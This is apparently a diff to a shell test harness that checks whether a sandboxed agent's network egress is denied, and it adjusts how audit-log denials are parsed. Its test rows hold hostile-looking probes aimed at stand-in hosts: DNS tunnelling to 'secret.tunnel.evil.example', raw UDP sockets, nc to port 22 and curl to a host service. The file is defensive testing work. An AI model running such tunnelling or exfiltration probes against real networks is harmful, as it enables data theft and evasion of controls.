@@ -24,11 +24,16 @@ if [ -t 1 ]; then
 fi
 wrong=0 rows=0
 
-# field NAME: of the last denial in the audit log, else of the last record
+# What was denied, without what the workload's own kernel says to its link when it starts.
+denials() {
+	audit '"verdict":"deny"' | grep -v '"dst":"ff02:'
+}
+
+# field NAME: of the first denial in the audit log, else of the last record that allows
 field() {
 	local line
-	line=$(audit '"verdict":"deny"' | tail -n 1)
-	[ -n "$line" ] || line=$(tail -n 1 "$WORLD/log/audit")
+	line=$(denials | head -n 1)
+	[ -n "$line" ] || line=$(audit '"verdict":"allow"' | tail -n 1)
 	sed -n "s/.*\"$1\":\"\\([^\"]*\\)\".*/\\1/p" <<<"$line"
 }
 
@@ -38,7 +43,7 @@ row() {
 	shift 3
 	out=$(agent "$@" 2>&1)
 	status=$?
-	if audit '"verdict":"deny"' >/dev/null || [ $status -ne 0 ]; then
+	if denials >/dev/null || [ $status -ne 0 ]; then
 		got=deny colour=$red
 	else
 		got=allow colour=$green
@@ -96,7 +101,7 @@ row deny 'REFUSED' "secret.tunnel.evil.example over DNS, TCP" sh -c 'dig +tcp +t
 row deny '.' "ping" ping -c1 -W2 "$EVIL4"
 row deny '.' "UDP/443, QUIC" python3 -c 'import socket, sys
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((sys.argv[1], 443)); s.send(b"x"); s.recv(1)' "$OPENAI4"
-row deny '.' "SSH to the allowed host" nc -zw2 "$OPENAI4" 22
+row deny '.' "SSH to the allowed host" nc -vzw2 "$OPENAI4" 22
 row deny '.' "a service of the host itself" curl -sSm3 "http://$OUTER4:9009/"
 
 arrived=$(grep -hE '203\.0\.113\.66|2001:db8:113::66|169\.254|/v1/(files|models)|evil' "$WORLD"/log/*.seen)
